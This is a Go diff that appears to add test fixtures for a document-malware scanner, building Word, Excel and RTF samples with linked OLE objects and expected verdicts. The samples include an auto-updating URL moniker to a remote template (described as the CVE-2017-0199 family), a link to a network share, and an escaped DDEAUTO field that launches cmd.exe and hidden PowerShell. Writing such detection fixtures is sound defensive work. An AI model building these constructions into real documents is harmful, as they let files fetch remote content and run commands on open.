@@ -248,3 +248,67 @@ func linkSamples() []Sample {
 			Data: Pptx(Rel{Type: "image", Target: "https://www.example.org/logo.png", Mode: "External"}, Rel{Type: "hyperlink", Target: "https://www.example.org/", Mode: "External"})},
 	}
 }
+
+// OLEStream is the "\x01Ole" stream of a linked object (MS-OLEDS 2.3.3)
+// whose absolute source moniker is a URL moniker (url) or a file moniker
+// (a path); auto makes it update on open.
+func OLEStream(source string, url, auto bool) []byte {
+	le := binary.LittleEndian
+	var mk []byte
+	if url {
+		mk = append(mk, 0xe0, 0xc9, 0xea, 0x79, 0xf9, 0xba, 0xce, 0x11, 0x8c, 0x82, 0x00, 0xaa, 0x00, 0x4b, 0xa9, 0x0b)
+		u := utf16.Encode([]rune(source + "\x00"))
+		mk = le.AppendUint32(mk, uint32(2*len(u)))
+		for _, c := range u {
+			mk = le.AppendUint16(mk, c)
+		}
+	} else {
+		mk = append(mk, 0x03, 0x03, 0, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46)
+		mk = le.AppendUint16(mk, 0) // cAnti
+		mk = le.AppendUint32(mk, uint32(len(source)+1))
+		mk = append(append(mk, source...), 0)
+		mk = le.AppendUint16(mk, 0xffff)
+		mk = le.AppendUint16(mk, 0xdead)
+		mk = append(mk, make([]byte, 16)...)
+		mk = le.AppendUint32(mk, 0)
+	}
+	update := uint32(3)
+	if auto {
+		update = 1
+	}
+	b := le.AppendUint32(nil, 0x02000001)
+	b = le.AppendUint32(b, 1) // linked
+	b = le.AppendUint32(b, update)
+	b = le.AppendUint32(b, 0)
+	b = le.AppendUint32(b, 0) // no reserved moniker
+	b = le.AppendUint32(b, 0) // no relative moniker
+	b = le.AppendUint32(b, uint32(len(mk)))
+	b = append(b, mk...)
+	b = le.AppendUint32(b, 0xffffffff)
+	b = append(b, make([]byte, 16)...)
+	b = le.AppendUint32(b, 0) // display name
+	b = le.AppendUint32(b, 0)
+	return append(b, make([]byte, 24)...)
+}
+
+// WordDocWithLink is a Word 97 document whose ObjectPool holds a linked
+// object.
+func WordDocWithLink(ole []byte) []byte {
+	wd := make([]byte, 4096)
+	copy(wd, []byte{0xec, 0xa5, 0xc1, 0x00})
+	return CFB(Stream("WordDocument", wd), Stream("1Table", make([]byte, 512)),
+		Storage("ObjectPool", Storage("_1712345679", Stream("\x01Ole", ole), Stream("\x03ObjInfo", []byte{0x00, 0x00, 0x03, 0x00, 0x01, 0x00}))))
+}
+
+func linkSamples2() []Sample {
+	return []Sample{
+		{Name: "ole-url-link.doc", Want: verdict.Malicious, Why: "linked OLE object with a URL moniker that updates on open (CVE-2017-0199 family)",
+			Data: WordDocWithLink(OLEStream("http://198.51.100.7/template.rtf", true, true))},
+		{Name: "ole-share-link.xls", Want: verdict.HighlySuspicious, Why: "workbook with an object linked (manual update) to a file on a share",
+			Data: CFB(Stream("Workbook", Workbook(false, Sheet{Name: "Sheet1"})), Storage("MBD0001A2B3", Stream("\x01Ole", OLEStream(`\\203.0.113.9\pub\data.xlsx`, false, false))))},
+		{Name: "dde-escaped.rtf", Want: verdict.Malicious, Why: `DDEAUTO field starting cmd, keyword and program written as \'hh`,
+			Data: rtfDoc(`{\field{\*\fldinst ` + rtfEscape("DDEAUTO") + ` c:\\\\windows\\\\system32\\\\` + rtfEscape("cmd.exe") + ` "/k powershell -w hidden -c calc"}{\fldrslt update}}`)},
+		{Name: "clean-ole-local-link.doc", Want: verdict.Clean, Why: "object linked (manual update) to a local workbook",
+			Data: WordDocWithLink(OLEStream(`C:\Reports\figures.xlsx`, false, false))},
+	}
+}
